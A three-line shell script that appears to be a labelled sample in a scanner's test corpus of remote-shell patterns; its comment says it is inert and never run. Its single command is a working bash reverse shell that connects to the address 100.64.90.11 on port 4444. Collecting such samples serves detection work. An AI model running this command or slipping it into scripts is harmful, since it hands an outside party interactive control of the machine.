#!/bin/sh
# pkgguard corpus 097 (remote-shell), modelled on [taxonomy]; inert, never run.
bash -i >& /dev/tcp/100.64.90.11/4444 0>&1
